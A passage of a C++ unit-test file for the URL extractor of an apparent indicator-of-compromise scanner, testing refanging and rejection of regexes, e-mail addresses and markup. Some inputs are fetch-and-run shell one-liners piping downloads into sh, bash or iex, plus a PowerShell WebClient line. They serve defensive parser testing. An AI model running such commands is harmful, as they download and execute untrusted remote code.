// Issue #15, URL family: each false positive and miss of the issue as an
// input and the URLs expected from it (spec section 3, precision rule).
#include "support/scan_helpers.hpp"

#include "families/url/url_host_check.hpp"
#include "families/url/url_refang.hpp"

#include <gtest/gtest.h>

#include <random>

namespace iocscan::test {
namespace {

using V = std::vector<std::string>;

V urls(const std::string& text, bool refang = false) {
    return values_of(scan_pieces(text, options_for({Type::url}, refang)), Type::url);
}
V refanged(const std::string& text) { return urls(text, true); }

TEST(UrlPrecision, PathsRegexesAndSignatureListsAreNoUrls) {
    EXPECT_EQ(urls("C:\\Users\\bob\\.ssh\\id_rsa"), V{});
    EXPECT_EQ(urls("$ua = /Mozilla\\/5\\.0/"), V{});
    EXPECT_EQ(urls("svcsstat\\.exe;70"), V{});
    EXPECT_EQ(urls("(word\\.exe|winword\\.exe)"), V{});
    EXPECT_EQ(urls("^https?://[a-z0-9.-]+\\.example\\.com/.*$"), V{});
    EXPECT_EQ(urls("see Fig(.) 3 and Fig[.] 4"), V{});
    // Right after a double quote, "\." is a string or regex escape.
    EXPECT_EQ(urls("grep \"foo\\.bar\" log; x=\"evil\\.com/a\""), V{});
    EXPECT_EQ(urls("\" evil\\.com\" and (evil\\.net)"), (V{"evil\\.com", "evil\\.net"}));
    // A defang with a plausible host still counts, IPs and ports included.
    EXPECT_EQ(refanged("evil\\.example\\.net/x 198[.]51[.]100[.]7:8080/a evil\\\\.com"),
              (V{"http://evil.example.net/x", "http://198.51.100.7:8080/a", "http://evil.com"}));
}

// A spaced dot also names the character in prose ("the period (.) in bc",
// seen in /usr/share/doc): with one, the host may not end in a word or a
// file extension, as a plain domain may not (before: URLs "period (.) in",
// "dot (.) to", "ReflectClose(.) is").
TEST(UrlPrecision, SpacedDotBeforeAWordIsProse) {
    EXPECT_EQ(urls("the decimal period (.) in bc, a dot (.) to split, ReflectClose(.) is fixed"), V{});
    EXPECT_EQ(refanged("evil (.) com, evil [.] co [.] uk/x, 198 [.] 51 [.] 100 [.] 7, evil[.]to"),
              (V{"http://evil.com", "http://evil.co.uk/x", "http://198.51.100.7", "http://evil.to"}));
}

// With a spaced dot the registrable domain is in one case, as the domain
// family asks of such a name (before: "Evil (.) Com" was a URL, no domain).
TEST(UrlPrecision, SpacedDotNeedsTheRegistrableDomainInOneCase) {
    EXPECT_EQ(urls("Evil (.) Com, Evil (.) com, x.Evil (.) com, Evil (.) co (.) uk"), V{});
    EXPECT_EQ(urls("evil (.) com, EVIL (.) COM, Q.evil (.) com/X, evil (.) co (.) uk, Evil[.]Com"),
              (V{"evil (.) com", "EVIL (.) COM", "Q.evil (.) com/X", "evil (.) co (.) uk", "Evil[.]Com"}));
}

// A footnote's marker glued to a defanged host ("evil[.]com2"): the host
// without its one or two digits, when they follow a common generic
// top-level domain (before: no URL). "song[.]mp3", "x[.]md5" (ccTLD
// letters) and three digits stay out; a path's digits stay.
TEST(UrlPrecision, FootnoteDigitsAfterADefangedHost) {
    // Only after a bracketed dot: "\\." and spaced dots are code too
    // ("System\\.Int32", "np\\.int64"), and "int" ends in int8 ... int64.
    const std::string text = "see evil[.]com2, a.evil\\.net12 and x.evil(.)org3. song[.]mp3 x[.]md5 e[.]com123 "
                             "e[.]co2 evil[.]com/a2 System\\.Int32 np\\.int64 value (.) int32 evil[.]int16";
    for (std::size_t piece : {0u, 1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::url}), piece), Type::url),
                  (V{"evil[.]com", "x.evil(.)org", "evil[.]com/a2"}))
            << piece;
    }
    EXPECT_EQ(refanged("evil[.]com2"), V{"http://evil.com"});
}

TEST(UrlPrecision, RegexPiecesWithEscapedDotsAreNoUrls) {
    // YARA strings: after a quantifier or a closing bracket (maybe through
    // an escaped dot) or opening a regex literal, "\." is the regex's dot.
    EXPECT_EQ(urls("$re = /https?:\\/\\/[a-z]+\\.evil\\.com/"), V{});
    EXPECT_EQ(urls("$a = /(www\\.)?evil\\.com/ $b = /[0-9]{1,3}\\.evil\\.org/"), V{});
    EXPECT_EQ(urls("$r4 = /evil\\.com/ nocase and /bad\\.net/"), V{});
    EXPECT_EQ(urls("x*evil\\.org [a-z]evil\\.net"), V{});
    // A defang in prose still counts.
    EXPECT_EQ(urls("see evil\\.com/x, (evil\\.net) and evil\\.org."),
              (V{"evil\\.com/x", "evil\\.net", "evil\\.org"}));
    // Cut before the token at every byte: the bytes before it still count.
    const std::string text = "$b = /[0-9]{1,3}\\.evil\\.org/ and /bad\\.net/";
    for (std::size_t piece = 1; piece <= 8; ++piece) {
        EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::url}), piece), Type::url), V{}) << piece;
    }
}

TEST(UrlPrecision, RandomBytesGiveAlmostNoUrls) {
    std::mt19937 rng(15);
    std::string bytes(4u << 20, '\0');
    for (char& c : bytes) c = static_cast<char>(rng());
    // Before the host check: 17 "URLs" on these 4 MiB (about 444 per 100 MB).
    const auto found = scan_pieces(bytes, options_for({Type::url}));
    EXPECT_LE(found.size(), 2u) << describe(found);
}

TEST(UrlPrecision, MarkupAndDataAroundUrlsAreNoPartOfThem) {
    EXPECT_EQ(urls("<a href=\"https://x.example/r?u=v\">Reset</a>"), V{"https://x.example/r?u=v"});
    EXPECT_EQ(urls("<a href=\"http://a.example/\">http://b.example/</a>"),
              (V{"http://a.example/", "http://b.example/"}));
    EXPECT_EQ(urls("[http://a.example/b](http://c.example/d)"), (V{"http://a.example/b", "http://c.example/d"}));
    EXPECT_EQ(urls("\"https://x.example/a/\",\"k\":[]"), V{"https://x.example/a/"});
    EXPECT_EQ(urls("{\"d\":\"see https://attack.mitre.org/techniques/T1059/001).\\n\\nThere\"}"),
              V{"https://attack.mitre.org/techniques/T1059/001"});
    EXPECT_EQ(urls("\"a http://x.example/p\\\" b\""), V{"http://x.example/p"});
    EXPECT_EQ(urls("=HYPERLINK(\"http://x.example\")@evil"), V{"http://x.example"});
    EXPECT_EQ(urls("\"cmd /c http://s.example/b.exe /y\""), V{"http://s.example/b.exe"});
    EXPECT_EQ(urls("https://x.example[Text] and https://y.example/p[Text]"),
              (V{"https://x.example", "https://y.example/p[Text]"}));
    EXPECT_EQ(urls("http://x.example/a)b"), V{"http://x.example/a"});
    // Balanced brackets stay, spaced defangs in the host too.
    EXPECT_EQ(urls("(see http://en.wikipedia.org/wiki/Foo_(bar))"), V{"http://en.wikipedia.org/wiki/Foo_(bar)"});
    EXPECT_EQ(refanged("http://evil .example .net /payload and more"), V{"http://evil.example.net/payload"});
    // --open keeps the trailing characters, and still ends at '"' and '<'.
    Options open = options_for({Type::url});
    open.open_punctuation = true;
    EXPECT_EQ(values_of(scan_pieces("<http://example.org/a> \"http://b.example/c\"<", open), Type::url),
              (V{"http://example.org/a>", "http://b.example/c"}));
}

TEST(UrlPrecision, AHalfBracketedDotInTheHostIsADot) {
    // Spec (ipv4): unbalanced brackets are dots; a URL host reads them the
    // same way, as iocextract does, and refangs them to plain dots.
    EXPECT_EQ(urls("go http://example[.com/x and hxxp://192[.168.1.1/ now"),
              (V{"http://example[.com/x", "hxxp://192[.168.1.1/"}));
    EXPECT_EQ(urls("hxxp://example.]com/t hxxp://exampledot]com/t hxxp://example[dotcom/t"),
              (V{"hxxp://example.]com/t", "hxxp://exampledot]com/t", "hxxp://example[dotcom/t"}));
    EXPECT_EQ(refanged("hxxp://example[.com/t hxxp://example.]com/t hxxp://exampledot]com/t "
                       "hxxp://example[dotcom/t hxxp://example.com[/t http://example[[[.]]com/x"),
              (V{"http://example.com/t", "http://example.com/t", "http://example.com/t", "http://example.com/t",
                 "http://example.com/t", "http://example.com/x"}));
    // A "[" or "(" before no dot still ends the host; so does a half-open
    // dot whose opener a later closer shows to be a parenthesis.
    EXPECT_EQ(urls("https://x.example[Text] http://y.example(.txt) z"), (V{"https://x.example", "http://y.example"}));
    // A sentence's ")" after the host's last dot is punctuation, and a
    // BBCode tag is no half "[/]".
    EXPECT_EQ(urls("(see http://example.com.) [url]http://evil.example/a[/url] http://b.example[/img]"),
              (V{"http://example.com", "http://evil.example/a", "http://b.example"}));
}

TEST(UrlPrecision, CommaOrQuoteEndsAHost) {
    EXPECT_EQ(refanged("Domain,evil[.]com,Observed"), V{"http://evil.com"});
    EXPECT_EQ(refanged("\"www.x[.]com\",1,2016"), V{"http://www.x.com"});
    EXPECT_EQ(refanged("hxxps[:]//update\\.example\\.net,high,10"), V{"https://update.example.net"});
    // Between digits a comma is still a dot.
    EXPECT_EQ(refanged("http://198,51,100,7/x"), V{"http://198.51.100.7/x"});
}

TEST(UrlPrecision, FormatPlaceholdersAreNoUrls) {
    EXPECT_EQ(urls("http://{0}:65101/api and https://<random_string>.evil.ru/p"), V{});
    const auto found = scan_pieces("https://<random_string>.evil.ru/p", options_for({Type::url, Type::domain}));
    EXPECT_EQ(values_of(found, Type::domain), V{"evil.ru"});
    // A placeholder in the path is part of the URL.
    EXPECT_EQ(urls("http://x.example/items/{id}"), V{"http://x.example/items/{id}"});
}

TEST(UrlPrecision, PatternsWithASchemeAreNoUrls) {
    // Regexes and wildcards: refang drops the brackets and backslashes, and
    // the host left holds "+", "*", "|" or "$", which no host name holds.
    EXPECT_EQ(urls("http://[a-z]+\\.com/(foo|bar)"), V{});
    EXPECT_EQ(urls("match http://[a-z0-9]+\\.evil\\.com/ or http://\\w+\\.example\\.com/"), V{});
    EXPECT_EQ(urls("http://www.*[.]example[.]com/ http://a|b[.]example.com/ http://evil\\.example$/"), V{});
    // Defanged hosts, ports, userinfo and IPv6 literals are host names.
    EXPECT_EQ(refanged("hxxp://evil[.]com:8080/a http://[2001:db8::1]:8080/x ftp://u:p@files.example/"),
              (V{"http://evil.com:8080/a", "http://[2001:db8::1]:8080/x", "ftp://u:p@files.example/"}));
    EXPECT_EQ(refanged("http://evil .example .net /payload"), V{"http://evil.example.net/payload"});
    // A pattern in the path leaves the URL: its host is a name to block.
    EXPECT_EQ(urls("http://evil.example/[a-z]+\\.php"), V{"http://evil.example/[a-z]+\\.php"});
}

TEST(UrlPrecision, WildcardAndAnchoredHostsWithoutStopsAreNoUrls) {
    // No bracket or backslash: the cut notes the "*", "|", "^" or "$" and
    // the host is read. A wildcard domain is a pattern for a block list
    // ("*.evil.com"), not a URL; the domain family still reports the name.
    EXPECT_EQ(urls("http://www.*.example.com/ http://a|b.example.com/ https://*.evil.com/path"), V{});
    EXPECT_EQ(urls("http://evil.example$/ http://a^b.example/x"), V{});
    const auto found = scan_pieces("https://*.evil.com/path", options_for({Type::url, Type::domain}));
    EXPECT_EQ(values_of(found, Type::domain), V{"evil.com"});
    // In the path they leave the URL, and a pipe into a shell still ends it.
    // (An Adblock filter's "^$" ends it: AnAdblockSeparatorMarkIsNoPartOfTheUrl.)
    EXPECT_EQ(urls("http://evil.example/a*b|c$d^e http://x.example/a.sh|sh"),
              (V{"http://evil.example/a*b|c$d^e", "http://x.example/a.sh"}));
}

TEST(UrlPrecision, OptionalGroupInTheHostIsAPattern) {
    // Refang drops the group's brackets and reads its "?" as the query's:
    // the host as written ends with a closer right before the "?".
    EXPECT_EQ(urls("http://(www\\.)?evil\\.com/ http://[a-z]?evil.com/ http://(evil.com)?x"), V{});
    EXPECT_EQ(refanged("http://(www\\.)?evil\\.com/"), V{});
    // An IPv6 address or a defang token before the query is a host.
    EXPECT_EQ(refanged("http://[2001:db8::1]?x=1 http://u@[::1]?x hxxp://evil[.]com[.]?x http://evil(.)com?x"),
              (V{"http://[2001:db8::1]?x=1", "http://u@[::1]?x", "http://evil.com.?x", "http://evil.com?x"}));
    EXPECT_EQ(urls("http://evil.example/(a)?b http://evil[.]example?q=(a)"),
              (V{"http://evil.example/(a)?b", "http://evil[.]example?q=(a)"}));
}

TEST(UrlPrecision, PercentEscapedHostByteIsReportedAsWritten) {
    // Refang undoes defangs only: the escape stays, with or without --refang.
    EXPECT_EQ(urls("http://%65vil.example/ hxxp://%65vil[.]example/a"),
              (V{"http://%65vil.example/", "hxxp://%65vil[.]example/a"}));
    EXPECT_EQ(refanged("http://%65vil.example/ hxxp://%65vil[.]example/a http://%D0%BF.example/"),
              (V{"http://%65vil.example/", "http://%65vil.example/a", "http://%D0%BF.example/"}));
    // A control byte's escape is a printf directive; an encoded URL stays one.
    EXPECT_EQ(urls("http://%02x.evil.com/ http://%s.example/ http://%zz/"), V{});
    EXPECT_EQ(refanged("http%3A%2F%2Fevil.com%2Fx"), V{"http://evil.com/x"});
}

TEST(UrlPrecision, UserinfoBeforeABracketedIpv6Host) {
    // The "[" after "@" opens the host, not a stray bracket: the whole URL,
    // and refang keeps the brackets as for "http://[::1]/".
    EXPECT_EQ(urls("http://user@[::1]/ http://user:pw@[2001:db8::1]:8080/x"),
              (V{"http://user@[::1]/", "http://user:pw@[2001:db8::1]:8080/x"}));
    EXPECT_EQ(refanged("hxxp://user@[2001:db8::1]:8080/x http://user@[::1]"),
              (V{"http://user@[2001:db8::1]:8080/x", "http://user@[::1]"}));
    EXPECT_EQ(refanged("http://[::1]:8080/ http://u@evil.example/a"), (V{"http://[::1]:8080/", "http://u@evil.example/a"}));
    // A bracket after "@" that holds no IPv6 address still ends the URL.
    EXPECT_EQ(urls("http://user@[x]/"), V{"http://user@"});
}

TEST(UrlPrecision, BracketedSchemeSeparatorsKeepTheScheme) {
    EXPECT_EQ(refanged("hxxps[://]is[.]gd/x"), V{"https://is.gd/x"});
    EXPECT_EQ(refanged("hxxps:[//]is[.]gd/x"), V{"https://is.gd/x"});
    EXPECT_EQ(refanged("hxxps[]://is[.]gd/x"), V{"https://is.gd/x"});
    EXPECT_EQ(refanged("http[://]evil[.]com/a"), V{"http://evil.com/a"});
    EXPECT_EQ(urls("hxxps[://]is[.]gd/x"), V{"hxxps[://]is[.]gd/x"});
}

TEST(UrlPrecision, OtherSchemesThatNameAHost) {
    EXPECT_EQ(refanged("smb://fileserver.example/share/a.exe"), V{"smb://fileserver.example/share/a.exe"});
    EXPECT_EQ(refanged("ws://x.example/s wss://y[.]example/t"), (V{"ws://x.example/s", "wss://y.example/t"}));
    EXPECT_EQ(refanged("open file:///C:/Users/x/a.hta now"), V{"file:///C:/Users/x/a.hta"});
    EXPECT_EQ(refanged("file://host.example/share/x"), V{"file://host.example/share/x"});
    // tcp and the like still become http, as in iocextract.
    EXPECT_EQ(refanged("tcp://c2.example.net:8443/beacon"), V{"http://c2.example.net:8443/beacon"});
}

TEST(UrlPrecision, PercentEncodedUrlWithADefangedDot) {
    EXPECT_EQ(refanged("u=https%3A%2F%2Fmanagement.core.windows[.]net%2F&x=1"),
              V{"https://management.core.windows.net/"});
    EXPECT_EQ(refanged("u=http%3A%2F%2Fevil(.)example%2Fa"), V{"http://evil.example/a"});
}

TEST(UrlPrecision, PartsOfEmailAddressesAreNoUrls) {
    // ".team" is a real top-level domain: the local part passed the host check.
    EXPECT_EQ(urls("mail ops[.]team[@]example(.)org and ops[@]team[.]com x"), V{});
    for (const char* at : {"@", "[@]", "(@)", "{@}", "[at]", "(at)", "{AT}"}) {
        const std::string text = std::string("ops[.]team") + at + "example(.)org, ops\\.team" + at + "team\\.com";
        EXPECT_EQ(urls(text), V{}) << text;
        // The bytes before a token may be gone when a piece ends there.
        for (std::size_t piece : {1u, 2u, 3u, 5u}) {
            EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::url}), piece), Type::url), V{}) << text;
        }
    }
    // Spaced at-signs, as the e-mail rule reads them, also at any piece size.
    // Up to three spaces (the e-mail rule's kEmailMaxSpaces) as far as the
    // eight bytes before the token reach (before: one space after it).
    for (const char* at : {" [at] ", " [AT] ", " (at) ", " {at} ", " [@] ", " @ ", " [ at ] ", "[ @ ]", "[at] ",
                           "  [at]  ", " [at]   ", " [ at ]  ", " [  @ ]  ", " {at}   "}) {
        const std::string text = std::string("mail ops") + at + "example[.]org, ops" + at + "evil\\.com x";
        EXPECT_EQ(urls(text), V{}) << text;
        for (std::size_t piece : {1u, 2u, 3u, 5u, 7u}) {
            EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::url}), piece), Type::url), V{}) << text;
        }
    }
    // More spaces than the e-mail rule joins: no address, so a URL.
    EXPECT_EQ(urls("ops [at]    example[.]org ops  @  evil[.]net"), (V{"example[.]org", "evil[.]net"}));
    // Prose: "at" as a word, an at-sign glued on one side only.
    EXPECT_EQ(urls("the server at evil[.]com, x@ evil[.]net, [a] evil[.]org"),
              (V{"evil[.]com", "evil[.]net", "evil[.]org"}));
    // Without an at-sign the same hosts are URLs; with a scheme, userinfo.
    EXPECT_EQ(urls("ops[.]team example(.)org [a]team[.]com (@ x.example)team[.]com"),
              (V{"ops[.]team", "example(.)org", "team[.]com", "team[.]com"}));
    EXPECT_EQ(urls("hxxp://user@evil[.]com/x evil[.]com/@user"), (V{"hxxp://user@evil[.]com/x", "evil[.]com/@user"}));
}

TEST(UrlPrecision, DefangedNetworksAreCidrsNoUrls) {
    EXPECT_EQ(urls("192.168.1[.]1/24 10\\.1\\.2\\.0/16 10[.]1[.]2[.]0/0"), V{});
    // A longer path or a number above 32 is a URL's path.
    EXPECT_EQ(urls("10[.]1[.]2[.]0/33 10[.]1[.]2[.]0/24/x"), (V{"10[.]1[.]2[.]0/33", "10[.]1[.]2[.]0/24/x"}));
}

TEST(UrlPrecision, StringEscapesAfterAUrlWithoutScheme) {
    // JSON or C strings: the URL ends before "\n", "\"", ...
    EXPECT_EQ(urls(R"({"d":"C2 evil[.]com\n","e":"see evil\.net\"","f":"x evil[.]org/a\r\n\t"})"),
              (V{"evil[.]com", "evil\\.net", "evil[.]org/a"}));
    for (std::size_t piece : {1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces(R"("C2 evil[.]com\n")", options_for({Type::url}), piece), Type::url),
                  V{"evil[.]com"});
    }
    // A path goes on after "\n...": a file path, no URL.
    EXPECT_EQ(urls(R"(\\evil-smb[.]com\new\x.exe)"), V{});
}

TEST(UrlPrecision, JsonEscapedSlashesAreAUrl) {
    // JSON dumps write "/" as "\/": the URL is found, and its value has
    // plain slashes with or without refang (no URL value holds a JSON
    // escape); raw keeps what was written, and the escape alone is no defang.
    const std::string json = R"({"u":"http:\/\/evil.com\/x","v":"hxxps:\/\/evil[.]com\/a\/b?q=1"})";
    EXPECT_EQ(urls(json), (V{"http://evil.com/x", "hxxps://evil[.]com/a/b?q=1"}));
    const auto found = scan_pieces(json, options_for({Type::url}));
    ASSERT_EQ(found.size(), 2u);
    EXPECT_EQ(found[0].raw, R"(http:\/\/evil.com\/x)");
    EXPECT_FALSE(found[0].defanged);
    EXPECT_TRUE(found[1].defanged);
    EXPECT_EQ(refanged(json), (V{"http://evil.com/x", "https://evil.com/a/b?q=1"}));
    // A string escape ends it: "\"" and "\u0022" (a quote), "\n".
    EXPECT_EQ(refanged(R"("http:\/\/a.example\/p\"x" "http:\/\/b.example\/q\u0022y" "http:\/\/c.example\nz")"),
              (V{"http://a.example/p", "http://b.example/q", "http://c.example"}));
    for (std::size_t piece : {1u, 2u, 5u}) {
        EXPECT_EQ(values_of(scan_pieces(json, options_for({Type::url}), piece), Type::url),
                  (V{"http://evil.com/x", "hxxps://evil[.]com/a/b?q=1"}));
    }
}

TEST(UrlPrecision, JsonEscapedSlashesWithoutASchemeAreAUrl) {
    // A schemeless defanged URL in a JSON string: "\/" is its path
    // separator, not regex syntax; a path or a regex anchor still is.
    const std::string json = R"({"ioc":"evil[.]com\/x\/y.php","re":"^evil[.]net\/x$"})";
    EXPECT_EQ(urls(json), V{"evil[.]com/x/y.php"});
    EXPECT_EQ(refanged(json), V{"http://evil.com/x/y.php"});
    EXPECT_EQ(urls(R"(C:\Users\evil[.]com\x)"), V{});
    // JSON has no "\." escape: beside "\/" it is a regex, as in YARA.
    EXPECT_EQ(urls(R"($re = /invoice-portal\.com\/view/)"), V{});
    for (std::size_t piece : {1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces(json, options_for({Type::url}), piece), Type::url), V{"evil[.]com/x/y.php"});
    }
}

TEST(UrlPrecision, SemicolonEndsAHost) {
    EXPECT_EQ(urls("host=evil[.]com;port=443 a evil\\.net;x"), (V{"evil[.]com", "evil\\.net"}));
    EXPECT_EQ(urls("http://a.example;http://b.example"), (V{"http://a.example", "http://b.example"}));
    // In the path it stays.
    EXPECT_EQ(urls("evil[.]com/a;b http://x.example/p;jsessionid=1"), (V{"evil[.]com/a;b", "http://x.example/p;jsessionid=1"}));
}

TEST(UrlPrecision, ListsWithoutSpacesGiveEveryUrl) {
    EXPECT_EQ(refanged("see a[.]com;b[.]net and evil[.]com,bad[.]net"),
              (V{"http://a.com", "http://b.net", "http://evil.com", "http://bad.net"}));
    EXPECT_EQ(refanged("evil\\.com;bad\\.net hxxp://a[.]com,hxxps://b[.]net/x;y http://a.com;http://b.net"),
              (V{"http://evil.com", "http://bad.net", "http://a.com", "https://b.net/x;y", "http://a.com", "http://b.net"}));
    // Raw values and offsets are the items' own.
    EXPECT_EQ(urls("(a[.]com;b[.]net)"), (V{"a[.]com", "b[.]net"}));
    // Only an item its rule matches on its own: no plain name, no key.
    EXPECT_EQ(urls("a[.]com;b.net;c(.)org host=evil[.]com;port=443 http://a.example,b.example"),
              (V{"a[.]com", "c(.)org", "evil[.]com", "http://a.example"}));
    // A comma between digits is a defanged dot, not a list.
    EXPECT_EQ(refanged("hxxp://198,51,100[.]7/x"), V{"http://198.51.100.7/x"});
    for (std::size_t piece : {1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces("x a[.]com;b[.]net,c[.]org", options_for({Type::url}), piece), Type::url),
                  (V{"a[.]com", "b[.]net", "c[.]org"}));
    }
}

// Defanged hosts joined by "|", as a column is pasted (before: the "|"
// read as a regex's alternation, no URL). Only when every item is such an
// address: a regex (a group, an anchor, an escaped dot) stays out.
TEST(UrlPrecision, BarListOfDefangedHostsGivesEveryUrl) {
    const std::string text = "cdn a.x-cdn[.]net|b.x-cdn[.]net|c(.)y[.]org/p|198[.]51[.]100[.]7:80.";
    for (std::size_t piece : {0u, 1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::url}), piece), Type::url),
                  (V{"a.x-cdn[.]net", "b.x-cdn[.]net", "c(.)y[.]org/p", "198[.]51[.]100[.]7:80"}))
            << piece;
    }
    EXPECT_EQ(refanged("evil[.]com|bad[.]com"), (V{"http://evil.com", "http://bad.com"}));
    EXPECT_EQ(urls("(evil|bad)\\.com (evil|bad)[.]com ^(a[.]com|b[.]net)$ (a[.]com|b[.]net) a[.]com|b\\.net "
                   "a[.]com|b[.]net* evil[.]com|grep a[.]com||b[.]net a[.]com|[.]net (?:a[.]com|b[.]net) "
                   "(?i)a[.]com|b[.]net /a[.]com|b[.]net/"),
              V{});
    // A table's bars still end the cell's URL.
    EXPECT_EQ(urls("|a[.]com|b[.]net|"), V{"a[.]com"});
}

TEST(UrlPrecision, ListsWithoutSpacesAfterAPathGiveEveryUrl) {
    // A quoted list (PowerShell, Python), or URLs joined by "," or ";" after
    // a path: each item that starts with a scheme is a URL of its own.
    EXPECT_EQ(urls("$u = @('http://a1.example.com/1','http://a2.example.com/2')"),
              (V{"http://a1.example.com/1", "http://a2.example.com/2"}));
    EXPECT_EQ(urls("http://a.example.com/x,http://b.example.com/y;https://c.example.com/z,ftp://d.example.com/w"),
              (V{"http://a.example.com/x", "http://b.example.com/y", "https://c.example.com/z", "ftp://d.example.com/w"}));
    EXPECT_EQ(refanged("hxxp://a[.]com/x,hxxps[:]//b[.]net/y evil[.]com/a;http://plain.example/b"),
              (V{"http://a.com/x", "https://b.net/y", "http://evil.com/a", "http://plain.example/b"}));
    // Without a scheme and separator after it, the byte stays in the path.
    EXPECT_EQ(urls("http://x.example/a,b;c|d http://x.example/p;http http://x.example/q,https:// "
                   "http://x.example/?u=http://y.example/a http://x.example/r,file__name"),
              (V{"http://x.example/a,b;c|d", "http://x.example/p;http", "http://x.example/q,https://",
                 "http://x.example/?u=http://y.example/a", "http://x.example/r,file__name"}));
    for (std::size_t piece : {1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces("x ['http://a.example/1','http://b.example/2']", options_for({Type::url}), piece),
                            Type::url),
                  (V{"http://a.example/1", "http://b.example/2"}));
    }
}

TEST(UrlPrecision, PipeToAnInterpreterIsNoPartOfTheUrl) {
    // Shell and PowerShell one-liners pipe the download into an interpreter.
    EXPECT_EQ(urls("wget -q -O- http://91.215.85.17/m.sh|sh; iwr -useb http://45.77.12.9/s.ps1|iex "
                   "(curl -s http://x.example/i.sh|BASH) \"http://x.example/p|python3\" http://x.example/q|sh&"),
              (V{"http://91.215.85.17/m.sh", "http://45.77.12.9/s.ps1", "http://x.example/i.sh", "http://x.example/p",
                 "http://x.example/q"}));
    // Any other "|" stays.
    EXPECT_EQ(urls("http://x.example/a|b http://x.example/?q=sh|shell http://x.example/a|sh.txt http://x.example/b|sh/c"),
              (V{"http://x.example/a|b", "http://x.example/?q=sh|shell", "http://x.example/a|sh.txt", "http://x.example/b|sh/c"}));
    // --open keeps the text as written.
    Options open = options_for({Type::url});
    open.open_punctuation = true;
    EXPECT_EQ(values_of(scan_pieces("curl http://x.example/i.sh|sh", open), Type::url), V{"http://x.example/i.sh|sh"});
}

TEST(UrlPrecision, HtmlEscapedMarkupIsNoPartOfTheUrl) {
    // Text copied from HTML source or an RSS feed: the character references
    // of '"', '<' and '>' end a URL as those bytes do.
    EXPECT_EQ(urls("&lt;a href=&quot;https://a.example/x?b=1&amp;c=2&quot;&gt;go&lt;/a&gt; "
                   "&lt;https://b.example/y&gt; &#34;https://c.example/z&#34; https://d.example&GT;"),
              (V{"https://a.example/x?b=1&amp;c=2", "https://b.example/y", "https://c.example/z", "https://d.example"}));
    // The quote's reference ends it only where the URL ends.
    EXPECT_EQ(urls("&#39;https://e.example/p&#39;. https://f.example/?q=O&#39;Brien https://g.example/a&apos;)"),
              (V{"https://e.example/p", "https://f.example/?q=O&#39;Brien", "https://g.example/a"}));
    // Other references and keys stay.
    EXPECT_EQ(urls("https://h.example/?a=1&gt=2 https://i.example/?x=&amp;y https://j.example/a;b"),
              (V{"https://h.example/?a=1&gt=2", "https://i.example/?x=&amp;y", "https://j.example/a;b"}));
}

TEST(UrlPrecision, BbcodeClosingTagIsNoPartOfTheUrl) {
    EXPECT_EQ(urls("[url]http://a.example/b[/url] [img]https://c.example/d.png[/IMG] [url=http://e.example/f]x[/url]"),
              (V{"http://a.example/b", "https://c.example/d.png", "http://e.example/f"}));
    // Brackets in a query and the defanged slash stay.
    EXPECT_EQ(refanged("http://g.example/?a[]=1&f[name]=x hxxp://h[.]example[/]i"),
              (V{"http://g.example/?a[]=1&f[name]=x", "http://h.example/i"}));
}

TEST(UrlPrecision, SpaceAfterTheSeparatorNeedsAPlausibleHost) {
    // Prose that names protocols is no URL.
    EXPECT_EQ(urls("Protocols http:// and https:// are supported, as is ftp:// (see docs) or hxxp:// [x]"), V{});
    // A defang gap before a real host stays, so do hosts without a gap.
    EXPECT_EQ(refanged("hxxp:// evil[.]example[.]com/a and http:// 198.51.100.7/b and hxxps:// ( evil.example ) and "
                       "http://intranet/x"),
              (V{"http://evil.example.com/a", "http://198.51.100.7/b", "https://evil.example", "http://intranet/x"}));
}

TEST(UrlPrecision, NoUrlFromAPieceOfANameWithANonAsciiLetter) {
    // A byte >= 0x80 ends a URL. Glued to a letter outside ASCII, what is
    // left is a piece of another name: "münchen[.]de" holds no "nchen[.]de",
    // the Cyrillic "аpple[.]com" no "pple[.]com", "http://münchen.de/x" no
    // "http://m".
    const std::string pieces_of_names =
        "münchen[.]de/x straße[.]com аpple[.]com jöhn\\.example\\.com http://münchen.de/x http://straße.com/f "
        "hxxp://ex[.]straße.com http://bank.coñtrol.com/x http://mail.shop.рф/x";
    // After a no-break space, a CJK character or "«", and where a letter
    // cuts the path or follows the URL as punctuation, the URL stays.
    const std::string kept =
        "\xC2\xA0" "a[.]example 联系b[.]example «c[.]example» http://d.example/münchen “http://e.example” http://f.example«";
    for (std::size_t piece : {0u, 1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces(pieces_of_names, options_for({Type::url}), piece), Type::url), V{}) << piece;
        EXPECT_EQ(values_of(scan_pieces(kept, options_for({Type::url}), piece), Type::url),
                  (V{"a[.]example", "b[.]example", "c[.]example", "http://d.example/m", "http://e.example",
                     "http://f.example"}))
            << piece;
    }
}

TEST(UrlPrecision, MultiplicationAndDivisionSignsEndAGenericUrl) {
    // "×" and "÷" (C3 97, C3 B7) share the lead byte of Latin-1 letters but
    // are signs: the host before them is whole. The body DFA reads both
    // bytes, so a chunk edge between them changes nothing.
    const std::string text = "http://evil.com×2 hxxp://evil[.]com÷3 http://evil.com/x×2 http://bank.coñtrol.com/x";
    for (std::size_t piece : {0u, 1u, 2u, 3u, 5u, 15u, 16u, 17u}) {
        EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::url}), piece), Type::url),
                  (V{"http://evil.com", "hxxp://evil[.]com", "http://evil.com/x"}))
            << piece;
    }
}

TEST(UrlPrecision, AQuoteOpenedBeforeTheUrlEndsIt) {
    // A PowerShell or JavaScript string: the closing quote ends the URL
    // (before: "http://evil.example/ping';$w=New-Object").
    const std::string shell = "powershell -c \"$u='http://evil.example/ping';$w=New-Object Net.WebClient\"";
    const std::string code = "u=`hxxp://a[.]example/x`+b; v='evil[.]com/p?q=1'.split() w='http://a/1','http://b/2'";
    for (std::size_t piece : {0u, 1u, 2u, 3u, 7u}) {
        EXPECT_EQ(values_of(scan_pieces(shell, options_for({Type::url}), piece), Type::url), V{"http://evil.example/ping"})
            << piece;
        EXPECT_EQ(values_of(scan_pieces(code, options_for({Type::url}), piece), Type::url),
                  (V{"hxxp://a[.]example/x", "evil[.]com/p?q=1", "http://a/1", "http://b/2"}))
